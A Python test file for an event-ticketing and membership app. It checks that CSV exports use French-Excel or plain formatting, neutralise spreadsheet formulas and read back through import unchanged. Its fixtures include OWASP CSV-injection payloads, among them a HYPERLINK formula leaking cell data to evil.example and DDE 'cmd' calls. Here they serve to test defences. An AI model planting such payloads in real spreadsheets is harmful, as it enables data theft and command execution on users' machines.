"""Every CSV export through the real app: one writer, French Excel by default (BOM, ";", decimal comma,
Paris dates, human labels) or plain (format=plain: no BOM, ",", decimal point, ISO dates, codes); cells
a spreadsheet would run as formulas are neutralised; the register's import reads its exports back."""

from __future__ import annotations

import csv
import io
import secrets
from datetime import UTC, date, datetime

from checkin.tables import CheckIn
from lib.csv_export import neutralise, restore
from members import standing
from members.register_csv import import_csv
from members.tables import MembershipYear, Organisation, Person
from tests.checkin.helpers import login, make_event, make_ticket, make_type
from tests.conftest import post
from ticketing.tables import Order, Ticket, TicketType

# What attackers type into a name or an organisation (OWASP's CSV injection payloads).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=already quoted",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def read(content: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS_START), f"formula cell {value!r} in {row}"


def assert_one_csv_header(response, filename_part: str) -> None:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and filename_part in disposition


def test_neutralise_and_restore_are_inverse():
    for payload in [*PAYLOADS, "\tTab", "\rCR", "''=two quotes", "plain", "", "l'été", "a=b", "-"]:
        safe = neutralise(payload)
        assert not safe.startswith(DANGEROUS_START)
        assert restore(safe) == payload
    assert neutralise("=1+1") == "'=1+1" and neutralise("Dupont") == "Dupont"


async def paid_and_pending_orders():
    """A confirmed paid ticket and an order awaiting payment, with formula payloads in every text."""
    event = await make_event(slug="cles-csv", title="Les Clés : lever des fonds")
    public = await make_type(event, "Non-adhérent", 2000)
    confirmed = await make_ticket(event, public, "Chloé Martin", organisation=PAYLOADS[0])
    order = await Order.objects().where(Order.id == confirmed.order).first()
    order.buyer_name, order.buyer_organisation = PAYLOADS[1], PAYLOADS[2]
    order.total_ht_cents, order.created_at = 2000, datetime(2027, 7, 14, 8, 5, tzinfo=UTC)
    await order.save()
    await Ticket.update({Ticket.price_ht_cents: 2000, Ticket.vat_cents: 400}).where(Ticket.id == confirmed.id)
    pending = await make_ticket(
        event, public, "Zoé Dubois", organisation="\tTabbed", order_status="pending_payment"
    )
    await Ticket.update(
        {Ticket.attendee_name: "\r=CR first", Ticket.price_ht_cents: 1050, Ticket.vat_cents: 210}
    ).where(Ticket.id == pending.id)
    return event, confirmed, pending


async def test_orders_csv_french_excel_by_default(client):
    event, confirmed, _pending = await paid_and_pending_orders()
    await login(client)
    r = client.get("/api/staff/ticketing/orders.csv", params={"event": event.id})
    assert_one_csv_header(r, f"orders-{event.id}.csv")
    assert r.content.startswith("\ufeff".encode())  # French Excel reads accents only with a BOM
    rows = read(r.content, ";")
    assert rows[0][:4] == ["Commande", "Statut", "Acheteur", "Email de l'acheteur"]
    assert_no_formula(rows)
    by_name = {row[4]: row for row in rows[1:]}
    chloe = by_name["Chloé Martin"]
    assert chloe[1] == "Confirmée" and chloe[10] == "Valide"  # labels, never "confirmed"/"valid"
    assert chloe[2] == "'" + PAYLOADS[1] and chloe[6] == "'" + PAYLOADS[0]
    assert chloe[8:10] == ["20,00", "4,00"] and chloe[13] == "24,00"
    assert chloe[11] == "14/07/2027 10:05"  # Paris summer time, not UTC
    assert chloe[12] == "'" + PAYLOADS[2]
    pending = by_name["'\r=CR first"]
    assert pending[1] == "En attente de paiement" and pending[6] == "'\tTabbed"
    assert pending[8] == "10,50"


async def test_orders_csv_plain_option(client):
    event, _confirmed, _pending = await paid_and_pending_orders()
    await login(client)
    r = client.get("/api/staff/ticketing/orders.csv", params={"event": event.id, "format": "plain"})
    assert_one_csv_header(r, "orders")
    assert not r.content.startswith("\ufeff".encode())
    rows = read(r.content, ",")
    assert rows[0][:3] == ["order", "order_status", "buyer_name"]
    assert_no_formula(rows)
    by_name = {row[4]: row for row in rows[1:]}
    chloe = by_name["Chloé Martin"]
    assert chloe[1] == "confirmed" and chloe[10] == "valid" and chloe[14] == "public"
    assert chloe[8:10] == ["20.00", "4.00"]
    assert chloe[11] == "2027-07-14T10:05:00+02:00"
    assert by_name["'\r=CR first"][1] == "pending_payment"
    # English labels and headers follow the request's language in the Excel dialect
    r = client.get("/api/staff/ticketing/orders.csv", params={"event": event.id, "lang": "en"})
    rows = read(r.content, ";")
    assert rows[0][:2] == ["Order", "Status"] and {row[1] for row in rows[1:]} == {
        "Confirmed",
        "Awaiting payment",
    }


async def test_orders_typed_through_the_api_are_neutralised(client):
    """The payloads typed into the real order form's API reach the export as text."""
    event = await make_event(slug="atelier-libre", title="Atelier libre")
    free = TicketType(event=event.id, name="Entrée libre", price_cents=0)
    await free.save()
    body = {
        "buyer": {"name": PAYLOADS[0], "email": "eve@example.org", "organisation": PAYLOADS[4]},
        "items": [{"ticket_type": free.id, "quantity": 2}],
        "attendees": [
            {"name": PAYLOADS[1], "organisation": PAYLOADS[3]},
            {"name": PAYLOADS[2], "email": "bob@example.org"},
        ],
    }
    r = post(client, f"/api/events/{event.id}/orders", json=body)
    assert r.status_code == 201, r.text
    await login(client)
    for params, delimiter in (({}, ";"), ({"format": "plain"}, ",")):
        rows = read(client.get("/api/staff/ticketing/orders.csv", params=params).content, delimiter)
        assert len(rows) == 3
        assert_no_formula(rows)
        assert {restore(row[4]) for row in rows[1:]} == {PAYLOADS[1], PAYLOADS[2]}
        assert {restore(row[2]) for row in rows[1:]} == {PAYLOADS[0]}


async def test_attendance_csv_dialects_and_neutralised(client):
    event = await make_event(slug="mima-csv", title="MIMA")
    ttype = await make_type(event, "Adhérent", 0)
    here = await make_ticket(event, ttype, "Élodie Présente", organisation=PAYLOADS[3])
    await make_ticket(event, ttype, "@Zoé Absente", organisation="Studio Puy")
    await CheckIn(
        ticket=here.id,
        event=event.id,
        scan_id=secrets.token_hex(8),
        status="ok",
        door="=Porte 2",
        scanned_at=datetime(2027, 1, 20, 8, 30, tzinfo=UTC),
    ).save()
    await login(client)
    url = f"/api/staff/checkin/events/{event.id}/attendance.csv"
    r = client.get(url)
    assert_one_csv_header(r, f"attendance-{event.id}.csv")
    assert r.content.startswith("\ufeff".encode())
    rows = read(r.content, ";")
    assert rows[0][:3] == ["Billet", "Nom", "E-mail"]
    assert_no_formula(rows)
    by_name = {restore(row[1]): row for row in rows[1:]}
    assert by_name["Élodie Présente"][3] == "'" + PAYLOADS[3]
    assert by_name["Élodie Présente"][5:8] == ["oui", "20/01/2027 09:30", "'=Porte 2"]
    assert by_name["@Zoé Absente"][1] == "'@Zoé Absente" and by_name["@Zoé Absente"][5] == "non"

    r = client.get(url, params={"format": "plain"})
    assert_one_csv_header(r, "attendance")
    assert not r.content.startswith("\ufeff".encode())
    rows = read(r.content, ",")
    assert rows[0][:3] == ["ticket", "name", "email"]
    assert_no_formula(rows)
    by_name = {restore(row[1]): row for row in rows[1:]}
    assert by_name["Élodie Présente"][5:7] == ["true", "2027-01-20T09:30:00+01:00"]
    assert by_name["@Zoé Absente"][5] == "false"


async def register_with_payloads() -> None:
    volcan = Organisation(
        name='=HYPERLINK("http://evil.example","Volcan")',
        college=2,
        revenue_band="20k-60k",
        email_domain="volcan.fr",
        city="Clermont-Ferrand",
    )
    await volcan.save()
    await MembershipYear(organisation=volcan.id, year=2025, dues_cents=27000, paid_on=date(2025, 2, 1)).save()
    await Person(
        first_name="Anne",
        last_name="-Dupont",
        email="anne@volcan.fr",
        organisation=volcan.id,
        role="+Gérante",
    ).save()
    await Organisation(name="Mairie de Riom", college=5, revenue_band="gt250k").save()
    await Person(first_name="Solo", last_name="Artiste", email="solo@example.org", role="@home").save()


async def snapshot() -> tuple:
    orgs = await Organisation.select(
        Organisation.name, Organisation.college, Organisation.revenue_band, Organisation.email_domain
    ).order_by(Organisation.id)
    years = await MembershipYear.select(MembershipYear.year, MembershipYear.paid_on).order_by(
        MembershipYear.id
    )
    people = await Person.select(Person.first_name, Person.last_name, Person.email, Person.role).order_by(
        Person.id
    )
    return orgs, years, people


async def test_register_export_excel_words_and_round_trip(client):
    await register_with_payloads()
    before = await snapshot()
    await login(client)
    for url in ("/staff/members/export.csv", "/api/membership/export.csv"):
        r = client.get(url)
        assert_one_csv_header(r, ".csv")
        assert r.content.startswith("\ufeff".encode())
        rows = read(r.content, ";")
        assert rows[0][:3] == ["Structure", "Collège", "Tranche de CA"]
        assert_no_formula(rows)
        volcan = next(row for row in rows if "HYPERLINK" in row[0])
        assert volcan[0].startswith("'=")
        assert volcan[1] == "Collège 2 – Image" and volcan[2] == "20-60 k€"  # words, not 2 / 20k-60k
        assert volcan[7] == "2025:2025-02-01"
        riom = next(row for row in rows if row[0] == "Mairie de Riom")
        assert riom[1] == "Collège 5 – Collectivités et institutions" and riom[2] == "> 250 k€"

        # what the export writes, the import reads back: nothing changes
        result = await import_csv(r.content)
        assert (result.organisations_created, result.organisations_updated) == (0, 0)
        assert (result.people_created, result.people_updated, result.payments_recorded) == (0, 0, 0)
        assert await snapshot() == before


async def test_register_plain_export_round_trip_and_english_excel(client):
    await register_with_payloads()
    before = await snapshot()
    await login(client)
    r = client.get("/staff/members/export.csv", params={"format": "plain"})
    assert_one_csv_header(r, ".csv")
    assert not r.content.startswith("\ufeff".encode())
    rows = read(r.content, ",")
    assert rows[0][:3] == ["organisation", "college", "revenue_band"]
    assert_no_formula(rows)
    assert {(row[1], row[2]) for row in rows[1:] if row[0]} == {("2", "20k-60k"), ("5", "gt250k")}
    result = await import_csv(r.content)
    assert (result.organisations_updated, result.people_updated) == (0, 0)

    english = client.get("/staff/members/export.csv", params={"lang": "en"})
    assert read(english.content, ";")[0][:2] == ["Organisation", "College"]
    # imported through the staff page, in the other language's words
    page = post(client, "/staff/members/import", files={"file": ("r.csv", english.content, "text/csv")})
    assert page.status_code == 200 and 'data-testid="import-result"' in page.text
    assert await snapshot() == before
    assert await standing.is_member_in_good_standing(email="anne@volcan.fr", on=date(2025, 3, 1))
